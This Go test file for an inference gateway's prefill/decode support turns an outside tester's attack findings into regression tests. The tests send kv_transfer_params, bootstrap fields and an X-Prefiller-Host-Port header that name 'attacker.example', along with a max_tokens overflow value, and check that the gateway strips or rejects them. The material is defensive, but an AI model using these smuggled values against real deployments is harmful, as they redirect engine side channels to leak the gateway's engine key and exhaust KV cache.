package gateway

// Attacks on the P/D support found by an outside tester, kept as
// regressions: client-supplied kv_transfer_params and bootstrap fields must
// not steer an engine (pd.client_params strip), and a concurrent
// connector's hold that D never read is released or counted.

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/infergate/infergate/fleet"
	"github.com/infergate/infergate/simserver"
)

// Finding 1: a client's own kv_transfer_params (and SGLang bootstrap
// fields) reach the decode engine verbatim when a P/D pool serves the
// request whole on D (short prompt, no prefill ready, fallback). With
// do_remote_prefill and remote_host/remote_port (or remote_bootstrap_addr,
// or bootstrap_host) naming any host, D connects there — carrying the
// gateway's engine credential (the simulated D forwards the Authorization of
// the request it serves; vLLM's D connects to remote_host's side channel).
// With do_remote_decode, D holds the prompt's KV for 480 s
// (VLLM_NIXL_ABORT_REQUEST_TIMEOUT). The gateway should drop client-supplied
// P/D hand-off fields on P/D pools.
func TestPDAttackWholeOnDecodeForwardsClientKVParams(t *testing.T) {
	for _, conn := range []string{"nixl", "mooncake", "sglang"} {
		t.Run(conn, func(t *testing.T) {
			p, d := newPDEngine(t, "p"), newPDEngine(t, "d")
			_, gw := startGateway(t, pdConfig(conn, []*pdEngine{p}, []*pdEngine{d}))
			in := `{"model":"m","prompt":[1,2,3,4,5,6,7,8],"max_tokens":3,` +
				`"kv_transfer_params":{"do_remote_prefill":true,"remote_block_ids":[1],"remote_engine_id":"x","remote_request_id":"y",` +
				`"remote_host":"attacker.example","remote_port":6666,"transfer_id":"t","remote_bootstrap_addr":"http://attacker.example:6666"},` +
				`"bootstrap_host":"attacker.example","bootstrap_port":6666,"bootstrap_room":1}`
			resp, body := post(t, http.DefaultClient, gw+"/v1/completions", in)
			if resp.StatusCode != 200 {
				t.Fatalf("status %d: %s", resp.StatusCode, body)
			}
			dl := d.got()
			if len(dl) != 1 {
				t.Fatalf("D legs %d", len(dl))
			}
			for _, k := range []string{"kv_transfer_params", "bootstrap_host", "bootstrap_port", "bootstrap_room"} {
				if v, ok := dl[0].body[k]; ok {
					t.Errorf("D received the client's %s: %v", k, v)
				}
			}
		})
	}
}

// Finding 2: on a split SGLang request the client's kv_transfer_params are
// kept in the body sent to both P and D (SGLangBody only sets the bootstrap
// fields). A client naming a Mooncake-style remote_bootstrap_addr makes D
// (and P) fetch from that host instead of the room the gateway assigned;
// P's hold under the gateway's room is never read and stays allocated.
func TestPDAttackSGLangSplitKeepsClientKVParams(t *testing.T) {
	p, d := newPDEngine(t, "p"), newPDEngine(t, "d")
	_, gw := startGateway(t, pdConfig("sglang", []*pdEngine{p}, []*pdEngine{d}))
	in := longPrompt(`,"kv_transfer_params":{"do_remote_prefill":true,"transfer_id":"t1","remote_bootstrap_addr":"http://attacker.example:6666"}`)
	resp, body := post(t, http.DefaultClient, gw+"/v1/completions", in)
	if resp.StatusCode != 200 {
		t.Fatalf("status %d: %s", resp.StatusCode, body)
	}
	waitFor(t, "P's leg", func() bool { return len(p.got()) == 1 })
	for name, legs := range map[string][]pdLeg{"P": p.got(), "D": d.got()} {
		if len(legs) != 1 {
			t.Fatalf("%s legs %d", name, len(legs))
		}
		if v, ok := legs[0].body["kv_transfer_params"]; ok {
			t.Errorf("%s received the client's kv_transfer_params %v beside the gateway's bootstrap room", name, v)
		}
	}
}

// Finding 3: with a concurrent connector (mooncake, sglang), a decode leg
// that is refused (max_tokens beyond D's context; P's leg asks one token and
// fits) left P holding the prompt's KV until its abort timeout, neither
// released nor counted. Now the gateway, knowing D's context length, does not
// split such a request at all; and when it does not know it (a configured
// max_model_len larger than the engine's), the hold D never read is released
// by its transfer id or room.
func TestPDAttackConcurrentHoldStrandedAfterDecodeRefused(t *testing.T) {
	for _, conn := range []string{"mooncake", "sglang"} {
		for _, misled := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/misled=%v", conn, misled), func(t *testing.T) {
				f, cfg := startSimPD(t, 1, 1, conn)
				if misled {
					for i := range cfg.Endpoints {
						cfg.Endpoints[i].MaxModelLen = 1 << 20
					}
				}
				_, gw := startGateway(t, cfg)
				c := testClient(t)
				body := pdSimPrompt("strand"+conn, 300, false)
				body = strings.Replace(body, `"max_tokens":12`, `"max_tokens":130500`, 1)
				a, err := chat(context.Background(), c, gw, body)
				if err != nil || a.status != http.StatusBadRequest {
					t.Fatalf("want D's 400: %+v %v", a, err)
				}
				P := f.URLs[0]
				if !misled {
					if v := metricValue(t, gw, "infergate_pd_decisions_total", `reason="over-context"`); v != 1 {
						t.Fatalf("over-context decisions %v", v)
					}
					if v := simValue(t, c, P, "vllm:request_success_total"); v != 0 {
						t.Fatalf("P served %v legs for a request D refuses", v)
					}
					return
				}
				waitFor(t, "P's leg served", func() bool { return simValue(t, c, P, "vllm:request_success_total") == 1 })
				// The fleet runs at 1000x: the 480 s abort timeout is 0.48 s of
				// wall time, so a stranded hold shows as an expiry, not a release.
				waitFor(t, "P holds nothing", func() bool { return simValue(t, c, P, "infergate_sim_pd_held_requests") == 0 })
				if exp := simValue(t, c, P, "infergate_sim_pd_held_expired_total"); exp != 0 {
					t.Fatalf("P's hold for a refused decode expired at the abort timeout (%v expired, %v released); gateway stranded counter %v",
						exp, simValue(t, c, P, "infergate_sim_pd_held_released_total"), metricValue(t, gw, "infergate_pd_stranded_holds_total", ""))
				}
			})
		}
	}
}

// Finding 1 end to end: a short chat (served whole on D) carrying
// kv_transfer_params {"do_remote_decode": true} makes the decode engine
// hold its KV for the abort timeout; repeated, it fills D's KV cache and
// stalls D for every client. The gateway does not see it (no stranded
// count). D should hold nothing after answering.
func TestPDAttackClientMakesDecodeHoldKV(t *testing.T) {
	f, cfg := startSimPD(t, 1, 1, "nixl")
	_, gw := startGateway(t, cfg)
	c := testClient(t)
	D := f.URLs[1]
	for i := range 3 {
		body := fmt.Sprintf(`{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"hold %d"}],"kv_transfer_params":{"do_remote_decode":true}}`, i)
		a, err := chat(context.Background(), c, gw, body)
		if err != nil || a.status != 200 {
			t.Fatalf("%+v %v", a, err)
		}
		var raw map[string]json.RawMessage
		if json.Unmarshal([]byte(a.rawBody), &raw) == nil && raw["kv_transfer_params"] != nil {
			t.Errorf("the client got D's kv_transfer_params (engine id, request id, internal host:port): %s", raw["kv_transfer_params"])
		}
	}
	// 1000x: the 480 s abort timeout is 0.48 s of wall time; a hold shows
	// as an expiry once it ends.
	waitFor(t, "D holds nothing", func() bool { return simValue(t, c, D, "infergate_sim_pd_held_requests") == 0 })
	if n := simValue(t, c, D, "infergate_sim_pd_held_expired_total"); n != 0 {
		t.Fatalf("D held KV for %v client requests until the abort timeout", n)
	}
}

// Finding 1, the credential: the gateway's own engine key (endpoint
// api_key) leaves the cluster. A short chat through a P/D pool names an
// outside host in kv_transfer_params; the gateway forwards the body to D
// with Authorization: Bearer <engine key>, and D, asking that host whether it
// holds the prompt's KV, sends the same header there.
func TestPDAttackEngineKeySentToClientNamedHost(t *testing.T) {
	const key = "engine-secret-attack"
	got := make(chan string, 4)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case got <- r.Header.Get("Authorization"):
		default:
		}
		http.NotFound(w, r)
	}))
	t.Cleanup(evil.Close)
	f, err := simserver.StartPDFleet(1, 1, simserver.ServerConfig{Model: "m", TimeScale: 1000, APIKeys: []string{key}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(f.Close)
	cfg := Config{EjectDuration: 5 * time.Minute, HealthCheckPath: "-"}
	cfg.Routing.PD.Threshold = pdSimThreshold
	cfg.PD.Connector, cfg.PD.Release = "nixl", true
	for _, m := range f.Members {
		e := EndpointConfig{URL: m.URL, Model: "m", KVBlocks: f.KVBlocks(), BlockSize: f.BlockSize(), Kind: fleet.Sim,
			Role: string(m.Role), APIKey: Secret(key)}
		cfg.Endpoints = append(cfg.Endpoints, e)
	}
	_, gw := startGateway(t, cfg)
	u, _ := url.Parse(evil.URL)
	port, _ := strconv.Atoi(u.Port())
	body := fmt.Sprintf(`{"model":"m","max_tokens":2,"messages":[{"role":"user","content":"hi"}],`+
		`"kv_transfer_params":{"do_remote_prefill":true,"remote_block_ids":[1],"remote_engine_id":"e","remote_request_id":"r",`+
		`"remote_host":%q,"remote_port":%d}}`, u.Hostname(), port)
	a, err := chat(context.Background(), testClient(t), gw, body)
	if err != nil || a.status != 200 {
		t.Fatalf("%+v %v", a, err)
	}
	select {
	case h := <-got:
		t.Fatalf("a host the client named received a side-channel call with Authorization %q (the gateway's engine key)", h)
	default: // D makes its side-channel call before it answers: had it made one, it would be here
	}
}

// A huge max_tokens (2^63−1, which the API accepts) overflowed the
// over-context check's prompt + max_tokens into a negative sum, so the
// request was split anyway: P computed and held the prompt for a D that
// refuses it (the attack run's max_tokens 9223372036854775807: one P leg
// served and held per request, as finding 3 before its fix).
func TestPDAttackHugeMaxTokensNotSplit(t *testing.T) {
	for _, conn := range []string{"nixl", "sglang"} {
		t.Run(conn, func(t *testing.T) {
			f, cfg := startSimPD(t, 1, 1, conn)
			_, gw := startGateway(t, cfg)
			c := testClient(t)
			body := pdSimPrompt("huge"+conn, 300, false)
			body = strings.Replace(body, `"max_tokens":12`, `"max_tokens":9223372036854775807`, 1)
			a, err := chat(context.Background(), c, gw, body)
			if err != nil || a.status != http.StatusBadRequest {
				t.Fatalf("want D's 400: %+v %v", a, err)
			}
			if v := metricValue(t, gw, "infergate_pd_decisions_total", `reason="over-context"`); v != 1 {
				t.Fatalf("over-context decisions %v", v)
			}
			if v := simValue(t, c, f.URLs[0], "vllm:request_success_total"); v != 0 {
				t.Fatalf("P served %v legs for a request D refuses", v)
			}
		})
	}
}

func TestOverContextOverflow(t *testing.T) {
	huge := int(^uint(0) >> 1)
	for _, tc := range []struct {
		prompt, maxTokens, maxModelLen int
		want                           bool
	}{
		{100, 10, 1000, false},
		{100, 901, 1000, true},
		{100, huge, 1000, true},
		{huge, 1, 1000, true},
		{100, huge, 0, false}, // unknown context length: never
	} {
		x := &exchange{}
		mt := tc.maxTokens
		x.comp.MaxTokens = &mt
		x.sreq.PromptTokens = tc.prompt
		if got := x.overContext(kindCompletion, tc.maxModelLen); got != tc.want {
			t.Errorf("prompt %d + max_tokens %d over %d: %v, want %v", tc.prompt, tc.maxTokens, tc.maxModelLen, got, tc.want)
		}
	}
}

// A client's own x-prefiller-host-port header reached the decode engine
// of a request served whole on D (short prompt, llm-d connector) — and any
// engine's with the other connectors: llm-d's routing sidecar in front of
// D runs a prefill at the host:port it names, with the request's headers,
// the gateway's engine key among them (finding 1's hand-off by header).
// With pd.client_params strip it is removed as the body's P/D members are;
// with pass it is forwarded.
func TestPDAttackClientPrefillerHeader(t *testing.T) {
	for _, mode := range []string{PDClientParamsStrip, PDClientParamsPass} {
		for _, conn := range []string{"llm-d", "nixl"} {
			t.Run(mode+"/"+conn, func(t *testing.T) {
				p, d := newPDEngine(t, "p"), newPDEngine(t, "d")
				cfg := pdConfig(conn, []*pdEngine{p}, []*pdEngine{d})
				cfg.PD.ClientParams = mode
				_, gw := startGateway(t, cfg)
				in := `{"model":"m","prompt":[1,2,3,4,5,6,7,8],"max_tokens":3}`
				resp, body := post(t, http.DefaultClient, gw+"/v1/completions", in, "X-Prefiller-Host-Port", "attacker.example:6666")
				if resp.StatusCode != 200 {
					t.Fatalf("status %d: %s", resp.StatusCode, body)
				}
				dl := d.got()
				if len(dl) != 1 {
					t.Fatalf("D legs %d", len(dl))
				}
				got := dl[0].header.Get("X-Prefiller-Host-Port")
				if want := map[string]string{PDClientParamsStrip: "", PDClientParamsPass: "attacker.example:6666"}[mode]; got != want {
					t.Fatalf("D received x-prefiller-host-port %q, want %q", got, want)
				}
			})
		}
	}
}
